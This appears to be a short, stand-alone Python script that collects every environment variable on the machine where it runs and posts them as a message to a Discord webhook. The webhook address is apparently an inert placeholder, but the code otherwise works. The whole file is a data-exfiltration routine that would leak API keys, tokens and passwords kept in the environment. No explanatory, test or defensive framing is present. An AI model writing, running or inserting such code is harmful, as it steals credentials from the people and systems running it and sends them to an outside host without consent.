from os import environ
from requests import post

text = "\n".join(f"{k}: {v}" for k, v in environ.items())
post("https://discord.com/api/webhooks/0/inert", json={"content": text[:1900]})
